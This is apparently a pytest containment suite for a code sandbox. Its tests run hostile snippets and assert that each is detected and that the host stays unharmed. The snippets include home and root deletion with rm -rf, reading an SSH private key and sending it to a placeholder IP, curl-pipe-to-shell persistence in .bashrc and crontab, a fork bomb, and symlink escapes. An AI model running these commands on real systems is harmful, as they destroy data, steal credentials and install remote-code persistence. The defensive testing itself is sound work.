"""The containment suite: hostile snippets run in the sandbox; each test asserts the finding and that the host is untouched.

Snippets are strings here and run only inside the sandbox, under the outer bound of conftest.py.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from codeward.sandbox import BehaviourReport, Sandbox, SandboxLimits

pytestmark = [pytest.mark.sandbox, pytest.mark.timeout(90), pytest.mark.usefixtures("host_unchanged")]


def rules(report: BehaviourReport) -> set[str]:
    return {finding.rule_id for finding in report.findings}


def capabilities(report: BehaviourReport) -> set[str]:
    return {finding.capability for finding in report.findings}


def limits_hit(report: BehaviourReport) -> set[str]:
    return {hit.limit for hit in report.limits_hit}


def test_rm_rf_home_deletes_only_the_decoy_home(box: Sandbox, real_home: Path) -> None:
    report = box.run_code("rm -rf ~ 2>/dev/null; ls -A ~ | wc -l", "bash")
    assert "sandbox.fs.delete-home" in rules(report)
    assert any(c.path.endswith("/.ssh") and c.change == "deleted" and c.files >= 2 for c in report.home_diff)
    assert report.stdout.strip() == "0"  # inside, the home is empty afterwards
    assert any(f.target == "~" and f.capability == "fs.delete.recursive" for f in report.findings)


def test_rm_rf_root_is_refused_by_the_read_only_system(box: Sandbox) -> None:
    report = box.run_code("rm -rf --no-preserve-root / 2>/dev/null", "bash", timeout=4)
    assert "sandbox.fs.delete-system" in rules(report)
    assert any(f.target == "/" for f in report.findings if f.rule_id == "sandbox.fs.delete-system")
    assert "sandbox.fs.delete-home" in rules(report)  # the decoy home is the one writable place
    assert any(event.result == "EROFS" for event in report.files_deleted)
    assert Path("/usr/bin/env").exists() and Path("/etc/passwd").exists()


def test_reading_the_ssh_key_then_connecting_out_is_exfiltration_and_nothing_leaves(box: Sandbox) -> None:
    snippet = (
        "import os, socket\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "s = socket.socket()\n"
        "s.settimeout(2)\n"
        "try:\n"
        "    s.connect(('203.0.113.9', 4444))\n"
        "    s.sendall(key.encode())\n"
        "    print('SENT')\n"
        "except OSError as error:\n"
        "    print('errno', error.errno)\n"
    )
    report = box.run_code(snippet, "python")
    assert {"sandbox.cred.read-decoy", "sandbox.net.connect", "sandbox.net.exfiltrate"} <= rules(report)
    assert "SENT" not in report.stdout
    connect = next(event for event in report.network if event.action == "connect")
    assert (connect.address, connect.port) == ("203.0.113.9", 4444)
    assert report.stdout.strip() == "errno 101"  # ENETUNREACH: the namespace has no route at all


def test_the_hosts_loopback_is_unreachable(box: Sandbox, loopback_listener: socket.socket) -> None:
    port = loopback_listener.getsockname()[1]
    snippet = (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        "    print('CONNECTED')\n"
        "except OSError as error:\n"
        "    print('errno', error.errno)\n"
    )
    report = box.run_code(snippet, "python")
    assert "CONNECTED" not in report.stdout and report.stdout.startswith("errno")
    assert any(e.action == "connect" and e.port == port for e in report.network)
    with pytest.raises(BlockingIOError):
        loopback_listener.accept()


def test_appending_to_bashrc_is_persistence(box: Sandbox) -> None:
    report = box.run_code("echo 'curl -s http://203.0.113.9/x | sh' >> ~/.bashrc", "bash")
    assert "sandbox.persist.shell-startup" in rules(report)
    write = next(p for p in report.persistence if p.path.endswith("/.bashrc"))
    assert "203.0.113.9" in write.excerpt


def test_installing_a_crontab_is_persistence(box: Sandbox) -> None:
    snippet = (
        "import getpass\n"
        "with open('/var/spool/cron/crontabs/' + getpass.getuser(), 'w') as tab:\n"
        "    tab.write('* * * * * curl -s http://203.0.113.9/x | sh\\n')\n"
    )
    report = box.run_code(snippet, "python")
    assert "sandbox.persist.cron" in rules(report)
    assert "persist.cron" in capabilities(report)


def test_a_fork_bomb_meets_the_process_limit(
    box: Sandbox, bounded: object, none_left: Callable[[], None]
) -> None:
    report = box.run_code(":(){ :|:& };:", "bash", timeout=3)
    assert "processes" in limits_hit(report)
    assert "sandbox.resource.processes" in rules(report)
    box.close()  # waits for the teardown of every run
    none_left()


def test_an_endless_loop_meets_the_time_limit(box: Sandbox) -> None:
    started = time.monotonic()
    report = box.run_code("while True:\n    pass\n", "python", timeout=1.0)
    assert report.timed_out and "wall_time" in limits_hit(report)
    assert time.monotonic() - started < 6


def test_allocating_10_gb_meets_the_memory_limit(box: Sandbox, bounded: object) -> None:
    report = box.run_code("block = bytearray(10 * 1024 ** 3)\nprint('ALLOCATED')", "python")
    assert "ALLOCATED" not in report.stdout
    assert limits_hit(report) & {"memory", "address_space"}
    assert "sandbox.resource.memory" in rules(report)


def test_writing_a_10_gb_file_meets_the_file_size_limit(box: Sandbox, bounded: object) -> None:
    snippet = (
        "import os\n"
        "chunk = b'x' * (1 << 20)\n"
        "with open(os.path.expanduser('~/big.bin'), 'wb') as out:\n"
        "    for _ in range(10 * 1024):\n"
        "        out.write(chunk)\n"
    )
    report = box.run_code(snippet, "python")
    assert limits_hit(report) & {"file_size", "disk"}
    assert "sandbox.resource.disk" in rules(report)


def test_printing_1_gb_meets_the_output_cap(box: Sandbox) -> None:
    report = box.run_code(
        "import sys\nline = 'y' * 1023 + '\\n'\nfor _ in range(1 << 20):\n    sys.stdout.write(line)\n",
        "python",
    )
    assert "output" in limits_hit(report)
    assert report.stdout_bytes > box.limits.output_bytes
    assert len(report.stdout) <= 4000  # the report quotes only the start


def test_forged_audit_events_are_counted_and_never_believed(box: Sandbox) -> None:
    fake = "open.w " + b"/etc/shadow".hex()
    snippet = (
        "import os, sys\n"
        f"print('- 1 {fake}')\n"
        f"print('0123456789abcdef 1 {fake}', file=sys.stderr)\n"
        "fd = int(os.environ['CODEWARD_AUDIT_FD'])\n"
        f"os.write(fd, b'deadbeefdeadbeefdeadbeefdeadbeef 1 {fake}\\n')\n"
        "os.write(fd, b'not an event at all\\n')\n"
    )
    report = box.run_code(snippet, "python")
    assert report.forged_events == 2
    assert "sandbox.tamper.forged-events" in rules(report)
    assert not any(event.path == "/etc/shadow" for event in report.files_written)


def test_an_af_vsock_socket_is_refused(box: Sandbox) -> None:
    snippet = (
        "import socket\n"
        "try:\n"
        "    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n"
        "    s.connect((2, 1234))\n"
        "    print('OPEN')\n"
        "except OSError as error:\n"
        "    print('errno', error.errno)\n"
    )
    report = box.run_code(snippet, "python")
    assert "OPEN" not in report.stdout and report.stdout.strip() == "errno 97"  # EAFNOSUPPORT
    assert "sandbox.net.refused-family" in rules(report)


def test_printing_the_projects_env_shows_only_decoy_values(box: Sandbox, project: Path) -> None:
    report = box.run_code("cat .env", "bash", project=str(project))
    assert "sk_live_realvalue" not in report.stdout and "hunter2-real-password" not in report.stdout
    assert "[decoy from ./.env]" in report.stdout
    assert {"sandbox.cred.read-project-secret", "sandbox.cred.printed-decoy"} <= rules(report)
    assert "sk_live_realvalue" in (project / ".env").read_text()


def test_symlinks_out_of_the_project_view_lead_nowhere_on_the_host(
    box: Sandbox, project: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    (project / "to-etc").symlink_to("/etc")
    (project / "to-outside").symlink_to(outside)
    (project / "up").symlink_to("..")
    snippet = (
        "echo owned > to-etc/codeward-owned; echo owned > to-outside/keep.txt; rm -rf to-outside/ up/outside;"
        " echo owned > up/codeward-owned; true"
    )
    report = box.run_code(snippet, "bash", project=str(project))
    assert not Path("/etc/codeward-owned").exists()
    assert (outside / "keep.txt").read_text() == "keep"
    assert not (tmp_path / "codeward-owned").exists()
    assert any(event.result == "EROFS" for event in report.files_written)


def test_a_double_fork_does_not_outlive_the_sandbox(box: Sandbox, none_left: Callable[[], None]) -> None:
    snippet = (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(60)\n"
        "    os._exit(0)\n"
        "print('parent done')\n"
    )
    with Sandbox() as fresh:
        report = fresh.run_code(snippet, "python", timeout=3)
    assert report.stdout.strip() == "parent done"
    none_left()


def test_the_run_has_no_network_no_capabilities_and_a_read_only_system(box: Sandbox) -> None:
    snippet = (
        "import os\n"
        "print(sorted(line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]))\n"
        "status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)\n"
        "print(status['CapEff'].strip(), status['NoNewPrivs'].strip(), status['Seccomp'].strip())\n"
        "for path in ('/usr/codeward-probe', '/etc/codeward-probe'):\n"
        "    try:\n"
        "        open(path, 'w')\n"
        "    except OSError as error:\n"
        "        print(error.errno)\n"
        "print(os.uname().nodename)\n"
    )
    report = box.run_code(snippet, "python")
    lines = report.stdout.splitlines()
    assert len(lines) == 5, report.stderr
    assert lines[0] == "['lo']"
    assert lines[1] == "0000000000000000 1 2"  # no capabilities, no new privileges, a seccomp filter
    assert lines[2:4] == ["30", "30"]  # EROFS
    assert lines[4] == "sandbox"
    assert report.isolation.uid != 0 and report.isolation.seccomp


@pytest.mark.parametrize(
    "language, loop", [("python", "while True:\n    pass\n"), ("bash", "while :; do :; done")]
)
def test_burning_cpu_meets_the_cpu_limit(language: str, loop: str) -> None:
    with Sandbox(SandboxLimits(cpu_seconds=1)) as box:
        report = box.run_code(loop, language, timeout=8)
    assert report.signal == "SIGXCPU" and not report.timed_out
    assert "cpu_time" in limits_hit(report) and "sandbox.resource.cpu" in rules(report)


def _process_tree(root: int) -> set[int]:
    found, waiting = set(), [root]
    while waiting:
        pid = waiting.pop()
        found.add(pid)
        for task in Path(f"/proc/{pid}/task").glob("*"):
            with contextlib.suppress(OSError):
                waiting += [int(child) for child in (task / "children").read_text().split()]
    return found


@pytest.mark.parametrize("language, tracers", [("python", ["audit-hook"]), ("bash", ["strace"])])
def test_every_process_of_the_run_is_in_its_cgroup_and_charged_there(
    box: Sandbox, bounded: object, language: str, tracers: list[str]
) -> None:
    """The launcher joins the run's cgroups as a thread (the cheap way): all the run is born inside."""
    backend = box.backend
    if "strace" in tracers and backend.host.strace is None:
        pytest.skip("strace is not installed")
    run = backend.start(language, None, tracers)
    try:
        if run.cgroup is None:
            pytest.skip("no per-run cgroup here (not root)")
        # the launcher, strace, bwrap and the interpreter waiting for go; a child that bwrap is
        # forking shows in /proc a moment before in its cgroup, one born outside never does
        deadline = time.monotonic() + 2
        while not _process_tree(run.launch.process.pid) <= set(run.cgroup.members()):
            assert time.monotonic() < deadline, "a process of the run is outside its cgroup"
            time.sleep(0.01)
        snippet = (
            "block = bytearray(96 * 1024 * 1024)\nprint(len(block))\n"
            if language == "python"
            else "block=$(head -c 100663296 /dev/zero | tr '\\0' a); echo ${#block}"
        )
        report = backend.execute(run, snippet, timeout=10, cleanup=lambda _: None)
        assert report.stdout.strip() == "100663296", report.stderr
        # what the snippet allocated was charged to the run's own cgroup
        assert run.cgroup.usage().peak_memory_bytes >= 96 * 1024 * 1024
    finally:
        backend.discard(run)
